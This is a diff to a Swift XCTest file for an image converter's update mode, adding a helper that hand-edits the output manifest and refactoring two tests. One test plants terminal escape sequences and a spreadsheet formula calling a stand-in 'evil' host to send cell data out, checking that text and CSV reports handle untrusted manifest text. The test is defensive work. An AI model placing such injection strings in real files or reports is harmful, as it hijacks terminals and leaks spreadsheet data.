@@ -42,6 +42,20 @@ final class UpdateTests: CLITestCase {
 
     func contents(_ name: String) throws -> Data { try Data(contentsOf: work.appendingPathComponent(name)) }
 
+    /// Edits out/.yuvconv-manifest as a hand would: per output name, fields set by the column names of the heading
+    /// the manifest carries ("# output<TAB>input…").
+    func editManifest(_ edits: [String: [String: String]]) throws {
+        let path = work.appendingPathComponent("out/.yuvconv-manifest")
+        let lines = String(decoding: try Data(contentsOf: path), as: UTF8.self).split(separator: "\n", omittingEmptySubsequences: false)
+        let heading = try XCTUnwrap(lines.first { $0.hasPrefix("# ") }).dropFirst(2).split(separator: "\t").map(String.init)
+        let edited = try lines.map { line in
+            var f = line.split(separator: "\t", omittingEmptySubsequences: false).map(String.init)
+            for (column, value) in edits[f.first ?? ""] ?? [:] { f[try XCTUnwrap(heading.firstIndex(of: column), column)] = value }
+            return f.joined(separator: "\t")
+        }.joined(separator: "\n")
+        try Data(edited.utf8).write(to: path)
+    }
+
     /// Dictionaries of JSON values as text, for comparing.
     func flat(_ o: [String: Any], without: Set<String> = []) -> [String: String] {
         Dictionary(uniqueKeysWithValues: o.filter { !without.contains($0.key) }.map { ($0.key, "\($0.value)") })
@@ -312,18 +326,7 @@ final class UpdateTests: CLITestCase {
     func testEditedFiguresAreNotKept() throws {
         try makeInputs()
         summary(try update().result, converted: 3, skipped: 0)
-        let path = work.appendingPathComponent("out/.yuvconv-manifest")
-        let lines = String(decoding: try Data(contentsOf: path), as: UTF8.self).split(separator: "\n", omittingEmptySubsequences: false)
-        // The columns by the heading the manifest carries ("# output<TAB>input…").
-        let heading = try XCTUnwrap(lines.first { $0.hasPrefix("# ") }).dropFirst(2).split(separator: "\t").map(String.init)
-        let width = try XCTUnwrap(heading.firstIndex(of: "width")), fileBytes = try XCTUnwrap(heading.firstIndex(of: "file_bytes"))
-        let edited = lines.map { line in
-            var f = line.split(separator: "\t", omittingEmptySubsequences: false).map(String.init)
-            if f.first == "a.nv12" { f[width] = "4096" }
-            if f.first == "b.nv12" { f[fileBytes] = "999999999" }
-            return f.joined(separator: "\t")
-        }.joined(separator: "\n")
-        try Data(edited.utf8).write(to: path)
+        try editManifest(["a.nv12": ["width": "4096"], "b.nv12": ["file_bytes": "999999999"]])
         let dry = try run(["convert", "in/", "-o", "out/", "--update", "-n"])
         XCTAssertTrue(String(decoding: dry.stdout, as: UTF8.self).contains("replace in/a.png -> out/a.nv12 (nv12): "), String(decoding: dry.stdout, as: UTF8.self))
         XCTAssertTrue(String(decoding: dry.stdout, as: UTF8.self).contains("replace in/b.jpg -> out/b.nv12 (nv12): "), String(decoding: dry.stdout, as: UTF8.self))
@@ -339,19 +342,9 @@ final class UpdateTests: CLITestCase {
     func testManifestTextIsNotTrusted() throws {
         try makeInputs()
         summary(try update().result, converted: 3, skipped: 0)
-        let path = work.appendingPathComponent("out/.yuvconv-manifest")
-        let lines = String(decoding: try Data(contentsOf: path), as: UTF8.self).split(separator: "\n", omittingEmptySubsequences: false)
-        let heading = try XCTUnwrap(lines.first { $0.hasPrefix("# ") }).dropFirst(2).split(separator: "\t").map(String.init)
-        let sampling = try XCTUnwrap(heading.firstIndex(of: "source_sampling")), route = try XCTUnwrap(heading.firstIndex(of: "path"))
-        let colour = try XCTUnwrap(heading.firstIndex(of: "color_management"))
-        let edited = lines.map { line in
-            var f = line.split(separator: "\t", omittingEmptySubsequences: false).map(String.init)
-            if f.first == "a.nv12" { f[sampling] = "\u{1B}]0;pwned\u{07}\u{1B}[2J\u{1B}[31mRED" }
-            if f.first == "b.nv12" { f[route] = "=HYPERLINK(\"http://evil/?\"&A1)" }
-            if f.first == "c.nv12" { f[colour] = "\u{1B}[31mRED" }
-            return f.joined(separator: "\t")
-        }.joined(separator: "\n")
-        try Data(edited.utf8).write(to: path)
+        try editManifest(["a.nv12": ["source_sampling": "\u{1B}]0;pwned\u{07}\u{1B}[2J\u{1B}[31mRED"],
+                          "b.nv12": ["path": "=HYPERLINK(\"http://evil/?\"&A1)"],
+                          "c.nv12": ["color_management": "\u{1B}[31mRED"]])
         for format in ["text", "csv"] {
             let r = try run(["convert", "in/", "-o", "out/", "--update", "--report", format])
             XCTAssertEqual(r.status, 1, r.stderr)
